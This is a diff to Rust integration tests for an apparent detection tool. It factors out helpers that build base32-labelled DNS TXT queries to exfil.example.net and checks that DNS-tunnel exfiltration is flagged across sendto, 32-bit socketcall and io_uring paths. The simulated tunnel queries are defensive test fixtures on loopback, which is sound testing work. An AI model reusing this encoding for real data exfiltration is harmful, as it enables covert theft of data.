@@ -163,6 +163,32 @@ fn field(out: &str, key: &str) -> u64 {
         .unwrap_or_else(|| panic!("no {key}= in the script's output {out:?}"))
 }
 
+/// The name of query `i` of a DNS tunnel: a long base32 label under one domain.
+fn tunnel_name(i: u8) -> String {
+    format!("mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net")
+}
+
+/// Query `i` of a DNS tunnel (type TXT), as `hex:` for the helper scripts' command lines.
+fn tunnel_query_hex(i: u8) -> String {
+    let mut q = vec![0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in tunnel_name(i).split('.') {
+        q.push(label.len() as u8);
+        q.extend_from_slice(label.as_bytes());
+    }
+    q.extend_from_slice(&[0, 0, 16, 0, 1]);
+    let hex: String = q.iter().map(|b| format!("{b:02x}")).collect();
+    format!("hex:{hex}")
+}
+
+fn assert_dns_tunnel_alert(alerts: &[Value], agent: &str) {
+    assert!(
+        alerts
+            .iter()
+            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == agent),
+        "no exfil.dns_tunnel alert for {agent}: {alerts:#?}"
+    );
+}
+
 /// Events of `kind` of process (tgid) `tgid`.
 fn events_of<'a>(events: &'a [Value], kind: &str, tgid: u64) -> Vec<&'a Value> {
     events
@@ -609,9 +635,7 @@ fn a_dns_tunnel_sent_with_write_or_split_iovecs_is_caught_from_its_packets() {
         .map(|i| {
             (
                 serde_json::json!(if i == 4 { "::1" } else { "127.0.0.76" }),
-                serde_json::json!(format!(
-                    "mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net"
-                )),
+                serde_json::json!(tunnel_name(i as u8)),
             )
         })
         .collect();
@@ -624,12 +648,7 @@ fn a_dns_tunnel_sent_with_write_or_split_iovecs_is_caught_from_its_packets() {
             .any(|e| e["kind"] == "net.send" && !e["dns"].is_null()),
         "{events:#?}"
     );
-    assert!(
-        alerts
-            .iter()
-            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == "packetdns"),
-        "{alerts:#?}"
-    );
+    assert_dns_tunnel_alert(&alerts, "packetdns");
 }
 
 /// A DNS tunnel sent with 32-bit calls (i386's `sendmsg`, whose `struct msghdr` has 32-bit
@@ -648,19 +667,7 @@ fn a_dns_tunnel_through_32_bit_sends_is_caught() {
         "socketcall-sendto",
         "socketcall-send",
     ];
-    let queries: Vec<String> = (0..hows.len() as u8)
-        .map(|i| {
-            let mut q = vec![0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
-            let name = format!("mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net");
-            for label in name.split('.') {
-                q.push(label.len() as u8);
-                q.extend_from_slice(label.as_bytes());
-            }
-            q.extend_from_slice(&[0, 0, 16, 0, 1]);
-            let hex: String = q.iter().map(|b| format!("{b:02x}")).collect();
-            format!("hex:{hex}")
-        })
-        .collect();
+    let queries: Vec<String> = (0..hows.len() as u8).map(tunnel_query_hex).collect();
     let _resolver =
         std::net::UdpSocket::bind("127.0.0.78:53").expect("loopback listener on 127.0.0.78:53");
     let mut argv = vec![PYTHON, &helper];
@@ -696,19 +703,12 @@ fn a_dns_tunnel_through_32_bit_sends_is_caught() {
                 serde_json::json!("sendto"),
                 serde_json::json!(53),
                 serde_json::json!(77),
-                serde_json::json!(format!(
-                    "mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net"
-                )),
+                serde_json::json!(tunnel_name(i as u8)),
             )
         })
         .collect();
     assert_eq!(queried, expected, "{events:#?}");
-    assert!(
-        alerts
-            .iter()
-            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == "compatdns"),
-        "{alerts:#?}"
-    );
+    assert_dns_tunnel_alert(&alerts, "compatdns");
 }
 
 /// `pidfd_getfd` takes another process's descriptor (a file it opened, a socket, an io_uring
@@ -1599,19 +1599,7 @@ fn a_dns_tunnel_through_io_uring_sends_is_caught() {
     let scene = Scene::new("uringdns");
     let client = scene.script("io_uring", IO_URING_PY);
     // Three queries of long base32 labels, as `detection.rs` sends with sendto.
-    let queries: Vec<String> = (0..3)
-        .map(|i| {
-            let mut q = vec![0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
-            let name = format!("mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net");
-            for label in name.split('.') {
-                q.push(label.len() as u8);
-                q.extend_from_slice(label.as_bytes());
-            }
-            q.extend_from_slice(&[0, 0, 16, 0, 1]);
-            let hex: String = q.iter().map(|b| format!("{b:02x}")).collect();
-            format!("hex:{hex}")
-        })
-        .collect();
+    let queries: Vec<String> = (0..3).map(tunnel_query_hex).collect();
     // A listener, or the port's unreachable answer would fail the next send.
     let _resolver =
         std::net::UdpSocket::bind("127.0.0.79:53").expect("loopback listener on 127.0.0.79:53");
@@ -1650,12 +1638,7 @@ fn a_dns_tunnel_through_io_uring_sends_is_caught() {
             .is_some_and(|n| n.ends_with(".exfil.example.net"))),
         "{queried:?}"
     );
-    assert!(
-        alerts
-            .iter()
-            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == "uringdns"),
-        "{alerts:#?}"
-    );
+    assert_dns_tunnel_alert(&alerts, "uringdns");
 }
 
 /// io_uring runs opens, renames, unlinks and mkdirs without a syscall of their own, in the
